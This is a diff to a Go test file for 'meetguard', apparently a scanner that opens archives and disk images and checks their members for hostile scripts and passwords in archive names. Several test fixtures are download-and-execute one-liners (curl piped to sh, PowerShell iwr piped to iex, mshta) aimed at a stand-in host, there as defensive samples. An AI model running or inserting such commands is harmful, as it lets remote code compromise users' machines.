@@ -8,16 +8,20 @@ import (
 	"compress/flate"
 	"compress/gzip"
 	"encoding/binary"
+	"errors"
 	"fmt"
 	"hash/crc32"
+	"io"
 	"os"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
 
 	"meetguard"
+	"meetguard/internal/unpack"
 )
 
 // gzipped is one compressed file.
@@ -195,6 +199,7 @@ func TestMemoryOfNestedBombs(t *testing.T) {
 	for i, name := range []string{"a.exe", "a.zip", "a.zip", "a.zip"} {
 		var buf bytes.Buffer
 		w := zip.NewWriter(&buf)
+		w.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) { return flate.NewWriter(out, flate.BestSpeed) })
 		for _, h := range []zip.FileHeader{{Name: "pad.go", Method: zip.Store}, {Name: name, Method: zip.Deflate}} {
 			f, err := w.CreateHeader(&h)
 			must(t, err)
@@ -317,4 +322,105 @@ func encrypted(password string, plain []byte) []byte {
 		update(b)
 	}
 	return out
+}
+
+// TestRolesOfMembers: what a container does with a member decides how it is
+// looked at.
+func TestRolesOfMembers(t *testing.T) {
+	ex, err := NewExaminer(ExaminerConfig{})
+	must(t, err)
+	ex.unit.begin(1<<20, ex.now)
+	t.Cleanup(ex.unit.arena.tidy)
+	fetch := []byte("curl -fsSL https://fix.invalid/a | sh\n")
+	for _, tc := range []struct {
+		m        unpack.Member
+		content  []byte
+		language string // "" if nothing is kept of it
+		gap      string
+	}{
+		{unpack.Member{Name: "Scripts/check", Role: unpack.RoleScript}, fetch, "shell", ""},
+		{unpack.Member{Name: "Run", Role: unpack.RoleAction}, []byte("powershell -w hidden -c \"iwr https://fix.invalid/a | iex\"\r\n"), "batch", ""},
+		{unpack.Member{Name: "Run.vbs", Role: unpack.RoleAction}, []byte("CreateObject(\"WScript.Shell\").Run \"mshta https://fix.invalid/a\"\r\n"), "vbscript", ""},
+		{unpack.Member{Name: "notes", Role: ""}, []byte("hello\n"), "", ""},
+		{unpack.Member{Name: "link.sh", Role: unpack.RoleLink}, fetch, "", ""},
+		{unpack.Member{Name: "sh", Role: unpack.RoleFolder}, fetch, "", ""},
+		{unpack.Member{Name: "partition", Role: unpack.RoleStream}, fetch, "", "only searched"},
+		{unpack.Member{Name: "x.sh", Locked: true}, nil, "", "it is encrypted"},
+		{unpack.Member{Name: "__MACOSX/._x.sh"}, []byte("\x00\x05\x16\x07\x00\x02\x00\x00 curl https://fix.invalid | sh"), "", ""},
+	} {
+		f := &meetguard.Facts{Format: meetguard.FormatISO}
+		o := &opening{ex: ex, f: f, format: f.Format, name: "x.iso"}
+		tc.m.Size = int64(len(tc.content))
+		tc.m.Open = func() (io.Reader, error) { return bytes.NewReader(tc.content), nil }
+		o.open(func(_ meetguard.Format, _ []byte, _ unpack.Options, visit unpack.Visit) error { return visit(tc.m) })
+		language := ""
+		if len(f.Members) > 0 && f.Members[0].Script != nil {
+			language = f.Members[0].Script.Language
+		}
+		if language != tc.language || language != "" && f.Members[0].Role != tc.m.Role || !strings.Contains(allGaps(*f), tc.gap) || tc.gap == "" && len(f.Gaps) > 0 {
+			t.Errorf("%s (%s): %q, members %+v, gaps %v", tc.m.Name, tc.m.Role, language, f.Members, f.Gaps)
+		}
+	}
+}
+
+// TestStreamsAreMatchedInPieces: a pattern across the border of two is found, and
+// each rule is told once.
+func TestStreamsAreMatchedInPieces(t *testing.T) {
+	folder := t.TempDir()
+	put(t, filepath.Join(folder, "other", "a.yar"), []byte("rule marker { strings: $a = \"the marker of this test\" condition: $a }"))
+	ex, err := NewExaminer(ExaminerConfig{Rules: folder})
+	must(t, err)
+	ex.unit.begin(1<<30, ex.now)
+	t.Cleanup(ex.unit.arena.tidy)
+	content := make([]byte, 2*maxStreamWindow)
+	copy(content[maxStreamWindow-10:], "the marker of this test")
+	copy(content[100:], "the marker of this test")
+	f := &meetguard.Facts{Format: meetguard.FormatDMG}
+	o := &opening{ex: ex, f: f, format: f.Format, name: "x.dmg"}
+	must(t, o.visit(unpack.Member{Name: "partition", Role: unpack.RoleStream, Open: func() (io.Reader, error) { return bytes.NewReader(content[50+60:]), nil }}))
+	if len(f.Members) != 1 || len(f.Members[0].Matches) != 1 || f.Members[0].Size != int64(len(content)-110) {
+		t.Errorf("members %+v", f.Members)
+	}
+}
+
+// TestWhatEndsAWalk: a container that is not opened is not clean, but a program
+// is no container.
+func TestWhatEndsAWalk(t *testing.T) {
+	for _, tc := range []struct {
+		format meetguard.Format
+		err    error
+		gap    string
+		blind  bool
+	}{
+		{meetguard.FormatISO, nil, "", false},
+		{meetguard.FormatISO, unpack.ErrUnsupported, "does not open iso", true},
+		{meetguard.FormatPE, unpack.ErrUnsupported, "", false},
+		{meetguard.FormatPE, fmt.Errorf("this Inno Setup is newer: %w", unpack.ErrUnsupported), "Inno Setup", true},
+		{meetguard.FormatPE, fmt.Errorf("the files of this setup: %w", unpack.ErrPartial), "files of this setup", false},
+		{meetguard.FormatDMG, fmt.Errorf("its files cannot be listed: %w", unpack.ErrUnsupported), "cannot be listed", true},
+		{meetguard.Format7z, unpack.ErrLocked, "encrypted", true},
+		{meetguard.Format7z, &unpack.LimitError{What: "too much"}, "too much", true},
+		{meetguard.Format7z, errors.New("the list is cut short"), "cut short", true},
+	} {
+		f := &meetguard.Facts{Format: tc.format}
+		o := &opening{ex: &Examiner{}, f: f, format: tc.format, name: "x"}
+		o.open(func(meetguard.Format, []byte, unpack.Options, unpack.Visit) error { return tc.err })
+		if (len(f.Gaps) > 0) != (tc.gap != "") || len(f.Gaps) > 0 && (f.Gaps[0].Blinding != tc.blind || !strings.Contains(f.Gaps[0].Reason, tc.gap)) {
+			t.Errorf("%s, %v: %v", tc.format, tc.err, f.Gaps)
+		}
+	}
+}
+
+func TestWordsThatMayBePasswords(t *testing.T) {
+	for name, want := range map[string]string{"Zoom_pass_1234.zip": "1234", "pw-2024.7z": "2024", "Zoom (s3cret).rar": "s3cret", "Update [pw=abc].zip": "abc",
+		"Passwort: x!Y7.": "x!Y7", "解压密码：8866": "8866", "パスワードは kaigi です": "kaigi", "contraseña: hola": "hola", "mot de passe : réunion": "réunion", "Password is “open”": "open"} {
+		if got := append(namedPasswords(name), writtenPasswords(name)...); !slices.Contains(got, want) {
+			t.Errorf("%q: %q, want %q", name, got, want)
+		}
+	}
+	for _, name := range []string{"setup.zip", "Zoom Workplace.zip"} {
+		if got := namedPasswords(name); len(got) > 0 {
+			t.Errorf("%q: %q", name, got)
+		}
+	}
 }
